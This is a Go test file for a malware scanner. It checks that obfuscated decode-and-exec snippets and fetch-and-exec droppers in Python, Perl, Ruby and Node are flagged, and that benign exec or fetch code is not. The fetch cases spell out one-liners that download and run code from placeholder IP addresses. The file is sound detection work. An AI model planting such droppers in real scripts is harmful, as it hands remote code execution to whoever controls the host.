package shell

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"testing"
)

// Code handed to the language's own eval after decoding a literal it carries, or as a URL
// returned it: each payload encoded three ways and run through each language's spellings.
func TestEvalRuns(t *testing.T) {
	payload := "import os, time\nfor i in range(3):\n    print('collecting host facts for the inventory', i)\n    time.sleep(1)\n"
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte(payload))
	zw.Close()
	encodings := map[string]string{
		"base64":      base64.StdEncoding.EncodeToString([]byte(payload)),
		"zlib base64": base64.StdEncoding.EncodeToString(z.Bytes()),
		"hex":         hex.EncodeToString([]byte(payload)),
	}
	decoded := []struct{ name, path, tmpl string }{
		{"python exec b64decode", "/home/u/.local/bin/svc.py", "import base64, zlib\nexec(base64.b64decode('%s'))\n"},
		{"python __import__ chain", "/opt/svc/run.py", "exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('%s')[0])))\n"},
		{"python eval compile", "/usr/local/bin/agent", "#!/usr/bin/env python3\nimport binascii\neval(compile(binascii.a2b_base64('%s'), '<x>', 'exec'))\n"},
		{"python unhexlify", "/tmp/.x/k.py", "import binascii\nexec(binascii.unhexlify(\"%s\"))\n"},
		{"perl eval decode_base64", "/usr/local/bin/sync.pl", "use MIME::Base64;\neval(decode_base64('%s'));\n"},
		{"ruby eval decode64", "/opt/app/boot.rb", "require 'base64'\neval(Base64.decode64('%s'))\n"},
		{"node eval Buffer", "/srv/app/lib/boot.js", "const x = 1;\neval(Buffer.from('%s', 'base64').toString());\n"},
	}
	for _, d := range decoded {
		for enc, lit := range encodings {
			if d.name == "python unhexlify" && enc != "hex" || d.name != "python unhexlify" && enc == "hex" {
				continue
			}
			t.Run(d.name+" "+enc, func(t *testing.T) {
				fs := scanFile(d.path, fmt.Sprintf(d.tmpl, lit))
				if !slices.Contains(rules(fs), RuleDecodeRun) {
					t.Fatalf("no %s\n%s", RuleDecodeRun, dump(fs))
				}
			})
		}
	}
	fetched := []struct{ name, path, text string }{
		{"python opener", "/home/u/.local/bin/linux_service.py", "import urllib.request, zlib, base64\no = urllib.request.build_opener()\nexec(zlib.decompress(base64.b64decode(o.open('http://198.51.100.30:8445/a7f').read())))\n"},
		{"python urlopen through a variable", "/opt/upd/upd.py", "from urllib.request import urlopen\nU = 'https://cdn.example.net/u.py'\nexec(urlopen(U).read().decode())\n"},
		{"python requests", "/usr/local/bin/stage", "#!/usr/bin/python3\nimport requests\nsrc = 'http://203.0.113.50/s'\nexec(requests.get(src, verify=False).text)\n"},
		{"perl LWP::Simple", "/usr/local/sbin/chk", "#!/usr/bin/perl\nuse LWP::Simple;\neval(get('http://203.0.113.50/p.pl'));\n"},
		{"ruby open-uri", "/opt/x/r.rb", "require 'open-uri'\neval(URI.open('https://203.0.113.50/r.rb').read)\n"},
		{"node fetch", "/srv/app/lib/x.js", "const u = 'https://203.0.113.50/x.js';\n(async () => { eval(await (await fetch(u)).text()); })();\n"},
	}
	for _, f := range fetched {
		t.Run(f.name, func(t *testing.T) {
			fs := scanFile(f.path, f.text)
			if !slices.Contains(rules(fs), RuleFetchRun) {
				t.Fatalf("no %s\n%s", RuleFetchRun, dump(fs))
			}
		})
	}
	clean := []struct{ name, path, text string }{
		{"python settings exec'd from a local file", "/opt/app/manage.py", "import os\nexec(compile(open('settings_local.py').read(), 'settings_local.py', 'exec'))\nURL = 'https://api.example.com/v1'\n"},
		{"python fetches json and evals nothing", "/opt/app/poll.py", "import requests\nr = requests.get('https://api.example.com/v1/status').json()\nprint(eval('1 + 2'))\n"},
		{"python compiles a URL pattern", "/opt/app/urls.py", "import re\npat = re.compile('https?://[^ ]+')\nexec('x = 1')\nurl = 'https://example.org/a'\nprint(pat.match(url))\n"},
		{"node regexp exec over a response", "/srv/app/lib/links.js", "const re = /href=\"([^\"]+)\"/g;\nfetch('https://example.org/').then(r => r.text()).then(t => { let m; while ((m = re.exec(t))) console.log(m[1]); });\n"},
		{"python decodes a logo", "/opt/app/logo.py", "import base64\nLOGO = base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte("a logo in a format nobody runs, just text to be shown in a banner line")) + "')\nprint(LOGO)\n"},
	}
	for _, c := range clean {
		t.Run("clean "+c.name, func(t *testing.T) {
			if fs := scanFile(c.path, c.text); len(fs) > 0 {
				t.Fatalf("want nothing\n%s", dump(fs))
			}
		})
	}
}
